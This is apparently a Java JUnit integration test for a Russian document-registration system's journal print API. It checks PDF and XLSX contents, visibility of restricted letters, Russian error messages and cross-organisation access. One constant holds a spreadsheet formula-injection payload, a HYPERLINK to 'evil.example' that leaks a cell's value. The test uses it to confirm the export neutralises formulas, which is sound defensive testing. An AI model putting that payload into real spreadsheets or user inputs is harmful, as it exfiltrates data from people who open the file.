package org.letterflow.registration;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.Json;
import jakarta.json.JsonObjectBuilder;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.letterflow.it.Api;
import org.letterflow.it.DeployedApplication;

/**
 * The printed registration journal through the API (issue 14, item 14): exactly the letters of the
 * journal registered in the period, in the journal's order, in the PDF's text and the XLSX's cells;
 * a ДСП letter only for whom the list shows it; typed formulas stay text; a bad period is a 400 in
 * Russian; another organisation's journal does not exist for the caller.
 */
class JournalPrintApiIT extends DeployedApplication {

    private static final String FROM = "10.01.2025";
    private static final String TO = "31.01.2025";
    private static final String HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Нажмите\")";

    private record Registered(long id, String number, String subject) {
    }

    private static long journal(Api admin, String direction, String template) {
        Api.Reply journal = admin.post("api/v1/journals", "{\"direction\":\"" + direction + "\",\"name\":\"Печать "
                + UUID.randomUUID() + "\",\"template\":\"" + template + "\"}");
        assertEquals(201, journal.status(), journal.toString());
        return journal.json().getJsonNumber("id").longValue();
    }

    private static Registered incoming(Api clerk, Long journal, String date, String subject, String correspondent,
                                       String theirNumber, String theirDate, boolean restricted) {
        JsonObjectBuilder form = Json.createObjectBuilder().add("direction", "INCOMING")
                .add("registrationDate", date).add("subject", subject).add("correspondentName", correspondent)
                .add("restricted", restricted).add("allowDuplicate", true);
        if (journal != null) {
            form.add("journalId", journal);
        }
        if (theirNumber != null) {
            form.add("correspondentNumber", theirNumber);
        }
        if (theirDate != null) {
            form.add("correspondentDate", theirDate);
        }
        String json = form.build().toString();
        Api.Reply reply = clerk.post("api/v1/letters", json);
        assertEquals(201, reply.status(), reply.toString());
        return new Registered(reply.json().getJsonNumber("id").longValue(), reply.json().getString("registrationNumber"),
                subject);
    }

    private static HttpResponse<byte[]> print(Api user, long journal, String format, String from, String to) {
        return user.download("api/v1/journals/" + journal + "/print." + format + "?from=" + from + "&to=" + to);
    }

    private static String pdfText(HttpResponse<byte[]> pdf) throws IOException {
        assertEquals(200, pdf.statusCode(), new String(pdf.body(), StandardCharsets.UTF_8));
        assertTrue(pdf.headers().firstValue("Content-Type").orElse("").startsWith("application/pdf"));
        try (PDDocument document = Loader.loadPDF(pdf.body())) {
            return new PDFTextStripper().getText(document).replaceAll("\\s+", " ");
        }
    }

    /** The registration numbers in the text, in the order they stand, each matched whole ("П-1" is not in "П-12"). */
    private static List<String> numbersIn(String text, String prefix) {
        Matcher m = Pattern.compile("(?<![\\p{L}\\d-])" + Pattern.quote(prefix) + "\\d+(?!\\d)").matcher(text);
        List<String> found = new ArrayList<>();
        while (m.find()) {
            found.add(m.group());
        }
        return found;
    }

    private static Sheet sheet(HttpResponse<byte[]> xlsx, List<Workbook> keep) throws IOException {
        assertEquals(200, xlsx.statusCode(), new String(xlsx.body(), StandardCharsets.UTF_8));
        assertTrue(xlsx.headers().firstValue("Content-Type").orElse("").startsWith(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"));
        Workbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx.body()));
        keep.add(book);
        return book.getSheetAt(0);
    }

    /** The table's lines: the rows under the header row («№ п/п»). */
    private static List<Row> lines(Sheet sheet) {
        List<Row> rows = new ArrayList<>();
        boolean below = false;
        for (Row row : sheet) {
            if (below) {
                rows.add(row);
            } else if (row.getCell(0) != null && row.getCell(0).getCellType() == CellType.STRING
                    && row.getCell(0).getStringCellValue().equals("№ п/п")) {
                below = true;
            }
        }
        return rows;
    }

    private static String cell(Row row, int column) {
        Cell cell = row.getCell(column);
        return cell == null ? "" : cell.getCellType() == CellType.NUMERIC
                ? String.valueOf((long) cell.getNumericCellValue()) : cell.getStringCellValue();
    }

    @Test
    void theJournalOfAPeriodListsExactlyItsLettersInOrderInThePdfAndTheSpreadsheet() throws IOException {
        Api admin = Api.as(base, "admin", "demo");
        Api clerk = Api.as(base, "minpros.clerk", "demo");
        Api head = Api.as(base, "minpros.head", "demo");
        long journal = journal(admin, "INCOMING", "П-{seq}");
        String tag = Long.toString(System.nanoTime(), 36);

        Registered before = incoming(clerk, journal, "2025-01-09", "До периода " + tag, "Минобр Иркутской области",
                null, null, false);
        Registered first = incoming(clerk, journal, "2025-01-10", "О мониторинге " + tag, "Минобр Иркутской области",
                "01-7/1", "2025-01-05", false);
        Registered hostile = incoming(clerk, journal, "2025-01-20", HOSTILE, "+7 999 000-00-00 Иванов", "-1", null,
                false);
        Registered secret = incoming(clerk, journal, "2025-01-31", "Секретное " + tag, "МОиН РТ", "ДСП-5",
                "2025-01-30", true);
        Registered after = incoming(clerk, journal, "2025-02-01", "После периода " + tag, "МОиН РТ", null, null, false);
        Registered elsewhere = incoming(clerk, null, "2025-01-15", "В другом журнале " + tag, "МОиН РТ", null, null,
                false);
        assertEquals(List.of("П-1", "П-2", "П-3", "П-4", "П-5"),
                List.of(before.number(), first.number(), hostile.number(), secret.number(), after.number()),
                "a new journal numbers from 1 in 2025");
        LocalDate due = LocalDate.now().plusDays(40);
        Api.Reply resolved = head.post("api/v1/letters/" + first.id() + "/resolutions", """
                {"text": "Подготовить сведения %s", "users": ["minpros.clerk"], "responsible": "minpros.clerk",
                 "dueDates": ["%s"], "onControl": true}""".formatted(tag, due));
        assertEquals(201, resolved.status(), resolved.body());

        // the PDF: the registering clerk sees the ДСП letter too
        String text = pdfText(print(clerk, journal, "pdf", FROM, TO));
        assertEquals(List.of("П-2", "П-3", "П-4"), numbersIn(text, "П-"), text);
        assertTrue(text.contains("Журнал регистрации входящих документов"), text);
        assertTrue(text.contains("Министерство просвещения Российской Федерации"), text);
        assertTrue(text.contains("с 10.01.2025 по 31.01.2025"), text);
        assertTrue(text.contains("Корреспондент") && text.contains("Срок исполнения"), "the journal's columns: " + text);
        assertTrue(text.contains("10.01.2025 Минобр Иркутской области № 01-7/1 от 05.01.2025 О мониторинге " + tag),
                "number, date, correspondent, their number and date, subject in one line: " + text);
        assertTrue(text.contains("Подготовить сведения " + tag), "the resolution: " + text);
        assertTrue(text.contains("О.В. Смирнова"), "its assignee: " + text);
        assertTrue(text.contains(DateTimeFormatter.ofPattern("dd.MM.yyyy").format(due)) && text.contains("На исполнении"), "due date and mark: " + text);
        assertTrue(text.contains("Секретное " + tag + " (ДСП)"), text);
        assertTrue(text.contains("Лист 1 из 1"), text);
        assertFalse(text.contains(elsewhere.subject()), "another journal's letter is not in this one");

        // the executive is neither the registering clerk nor a named reader: no ДСП line for him
        String headText = pdfText(print(head, journal, "pdf", FROM, TO));
        assertEquals(List.of("П-2", "П-3"), numbersIn(headText, "П-"), headText);
        assertFalse(headText.contains("Секретное"), headText);

        List<Workbook> books = new ArrayList<>();
        try {
            Sheet sheet = sheet(print(clerk, journal, "xlsx", "2025-01-10", "2025-01-31"), books);
            assertEquals("Журнал регистрации входящих документов", sheet.getRow(0).getCell(0).getStringCellValue());
            List<Row> rows = lines(sheet);
            assertEquals(List.of("П-2", "П-3", "П-4"), rows.stream().map(r -> cell(r, 1)).toList());
            assertEquals(List.of("1", "2", "3"), rows.stream().map(r -> cell(r, 0)).toList());
            assertEquals(List.of("10.01.2025", "20.01.2025", "31.01.2025"), rows.stream().map(r -> cell(r, 2)).toList());
            assertEquals(List.of("Минобр Иркутской области", "+7 999 000-00-00 Иванов", "МОиН РТ"),
                    rows.stream().map(r -> cell(r, 3)).toList());
            assertEquals("№ 01-7/1 от 05.01.2025", cell(rows.get(0), 4));
            assertEquals("О мониторинге " + tag, cell(rows.get(0), 5));
            // a typed formula is kept as its text and marked as text, so no spreadsheet ever runs it
            Cell subject = rows.get(1).getCell(5);
            assertEquals(CellType.STRING, subject.getCellType());
            assertEquals(HOSTILE, subject.getStringCellValue());
            assertTrue(subject.getCellStyle().getQuotePrefixed(), "a cell starting with = is quote-prefixed");
            assertTrue(rows.get(1).getCell(3).getCellStyle().getQuotePrefixed(), "so is one starting with +");
            assertFalse(rows.get(0).getCell(5).getCellStyle().getQuotePrefixed(), "plain text is left plain");
            for (Row row : sheet) {
                for (Cell c : row) {
                    assertTrue(c.getCellType() != CellType.FORMULA, "no formula anywhere: " + c);
                }
            }
            List<Row> headRows = lines(sheet(print(head, journal, "xlsx", FROM, TO), books));
            assertEquals(List.of("П-2", "П-3"), headRows.stream().map(r -> cell(r, 1)).toList());
        } finally {
            for (Workbook book : books) {
                book.close();
            }
        }
    }

    @Test
    void theOutgoingJournalNamesTheAddresseesTheSignatoryAndWhetherTheLetterWasSent() throws IOException {
        Api admin = Api.as(base, "admin", "demo");
        Api clerk = Api.as(base, "minpros.clerk", "demo");
        long journal = journal(admin, "OUTGOING", "И-{seq}");
        String tag = Long.toString(System.nanoTime(), 36);
        Api.Reply sent = clerk.post("api/v1/letters", """
                {"direction": "OUTGOING", "register": true, "journalId": %d, "registrationDate": "2025-03-03",
                 "subject": "Об олимпиаде %s", "addressees": "Руководителям органов управления образованием",
                 "signatoryPosition": "Директор департамента", "signatoryName": "С.П. Шатунов",
                 "executorName": "Рыбинкина Ю.М."}""".formatted(journal, tag));
        assertEquals(201, sent.status(), sent.body());
        assertEquals("И-1", sent.json().getString("registrationNumber"));

        String text = pdfText(print(clerk, journal, "pdf", "01.03.2025", "31.03.2025"));
        assertTrue(text.contains("Журнал регистрации исходящих документов"), text);
        assertTrue(text.contains("И-1 03.03.2025 Руководителям органов управления образованием Об олимпиаде " + tag
                + " Директор департамента С.П. Шатунов Рыбинкина Ю.М. Не отправлено"), text);
        assertTrue(text.contains("Адресаты") && text.contains("Подписал"), text);
    }

    @Test
    void aBadPeriodIsA400InRussianAndAnotherOrganisationsJournalIsNotThere() {
        Api admin = Api.as(base, "admin", "demo");
        Api clerk = Api.as(base, "minpros.clerk", "demo");
        long journal = journal(admin, "INCOMING", "Б-{seq}");

        for (String[] period : List.of(new String[] {"31.02.2025", "01.03.2025"}, new String[] {"01.03.2025", "2025-02-30"},
                new String[] {"01.02.2025", "01.01.2025"}, new String[] {"01.01.2019", "01.01.2025"},
                new String[] {"", "01.01.2025"})) {
            for (String format : List.of("pdf", "xlsx")) {
                HttpResponse<byte[]> refused = print(clerk, journal, format, period[0], period[1]);
                String body = new String(refused.body(), StandardCharsets.UTF_8);
                assertEquals(400, refused.statusCode(), String.join("–", period) + ": " + body);
                assertTrue(refused.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json"),
                        body);
                String detail = Json.createReader(new StringReader(body)).readObject().getString("detail");
                assertTrue(detail.matches(".*[а-яА-Я].*"), "said in Russian: " + detail);
                assertFalse(body.contains("Exception"), body);
            }
        }
        String detail = Json.createReader(new StringReader(new String(print(clerk, journal, "pdf", "31.02.2025",
                "01.03.2025").body(), StandardCharsets.UTF_8))).readObject().getString("detail");
        assertTrue(detail.contains("31.02.2025"), "the wrong date is named: " + detail);

        Api tomsk = Api.as(base, "tomsk.clerk", "demo");
        assertEquals(404, print(tomsk, journal, "pdf", FROM, TO).statusCode(), "another organisation's journal");
        assertEquals(404, print(tomsk, journal, "xlsx", FROM, TO).statusCode(), "another organisation's journal");
        assertEquals(404, print(clerk, 987654321L, "pdf", FROM, TO).statusCode(), "no such journal");
        assertEquals(401, Api.anonymous(base).download("api/v1/journals/" + journal + "/print.pdf?from=" + FROM
                + "&to=" + TO).statusCode());
    }
}
